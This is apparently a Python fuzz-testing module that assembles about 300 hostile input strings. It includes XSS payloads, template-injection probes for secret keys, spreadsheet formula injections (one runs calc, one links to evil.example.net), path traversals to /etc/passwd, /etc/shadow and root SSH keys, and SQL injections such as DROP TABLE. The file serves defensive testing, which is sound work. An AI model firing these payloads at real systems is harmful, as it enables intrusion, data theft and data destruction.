"""Three hundred strings nobody should type: what browsers, templates, spreadsheets and paths have obeyed."""

from __future__ import annotations

import itertools

FIRE = "window.hit=1"
ALERTS = (
    f"<script>{FIRE}</script>",
    f"<ScRiPt>{FIRE}</sCrIpT>",
    f"<script\t>{FIRE}</script\n>",
    f"<script src=data:,{FIRE}></script>",
    f"<img src=x onerror={FIRE}>",
    f"<img/src=x/onerror={FIRE}>",
    f"<svg onload={FIRE}>",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f"<body onload={FIRE}>",
    f"<details open ontoggle={FIRE}>",
    f"<input autofocus onfocus={FIRE}>",
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'>",
    f"<iframe src=javascript:parent.{FIRE}>",
    f"<object data=javascript:{FIRE}>",
    f"<a href=javascript:{FIRE}>click</a>",
    f"<form action=javascript:{FIRE}><button>go</button></form>",
    f"<video><source onerror={FIRE}>",
    f"<style>@import 'data:,x'</style><p style=\"x:expression({FIRE})\">",
    "<base href=//evil.example.net/>",
    "<meta http-equiv=refresh content='0;url=//evil.example.net'>",
    "<link rel=stylesheet href=//evil.example.net/x.css>",
    f"<math><mi xlink:href=javascript:{FIRE}>x",
    f"<noscript><p title='</noscript><img src=x onerror={FIRE}>'>",
)
BREAKOUTS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--></style>", "]]>", "\u2028", "</a>")
TEMPLATES = (
    *("{{ 7*7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    *("{% load static %}", "{{ request.user.password }}", "%(secret)s", "{0.__class__}", "{user.password}"),
)
FORMULAS = tuple(
    f"{first}{rest}"
    for first in ("=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠")
    for rest in ("cmd|' /C calc'!A0", 'HYPERLINK("//evil.example.net")')
)
PATHS = (
    *(
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/shadow",
        "file:///etc/passwd",
        "CON",
        "NUL.txt",
    ),
    *("a/../../b", "%2e%2e%2f", "....//", "\\\\host\\share", "C:\\x", "~root/.ssh/id", ".", ".."),
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (1, 7, 8, 11, 12, 27, 28, 127, 133, 0xAD, 0xFFFE))
TURNS = (
    *("\u202eevil", "\u2067evil", "a\u200bb", "\u200f\u200f", "\u061cevil", "שלום <b>", "مرحبا ‮ 123"),
    *("e" + "\u0301" * 60, "\ufdfa" * 40, "👩‍👩‍👧‍👦" * 20, "\U0001f1e6" * 30, "Ａ" * 60, "ﷺ"),
)
LONG = ("x" * 10_000, "長" * 10_000, "a b " * 2_500, "&amp;" * 2_000, "W" * 60)
QUERIES = ("' OR 1=1 --", '"; DROP TABLE x; --', "1;SELECT pg_sleep(9)", "\\'; --", "%' AND '1'='1")


def strings(count: int = 300) -> list[str]:
    """The first `count` of all, short families first."""
    families = itertools.chain(
        *(ALERTS, TEMPLATES, FORMULAS, PATHS, CONTROLS, TURNS, LONG, QUERIES),
        (before + alert for before in BREAKOUTS[1:] for alert in ALERTS),
    )
    return list(dict.fromkeys(families))[:count]
